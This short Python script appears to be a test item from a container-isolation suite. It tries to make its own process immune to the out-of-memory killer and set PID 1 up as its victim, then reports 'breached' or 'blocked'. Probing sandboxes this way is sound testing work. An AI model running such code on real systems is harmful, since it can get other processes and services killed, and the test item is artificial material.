# attack: makes another process the victim of the OOM killer
# verdict: completed
# prints: blocked
# runtime: runc (gVisor's kernel keeps the value inside the sandbox)
import os

done = []
for path, values in (("/proc/self/oom_score_adj", ("-1000", "-1")), ("/proc/1/oom_score_adj", ("1000", "-1000")), ("/proc/self/oom_adj", ("-17",))):
    for value in values:
        try:
            with open(path, "w") as file:
                file.write(value)
            done.append((path, value))
        except OSError:
            pass
now = int(open("/proc/self/oom_score_adj").read())
print(f"breached: {done} {now}" if done or now < 0 else "blocked")
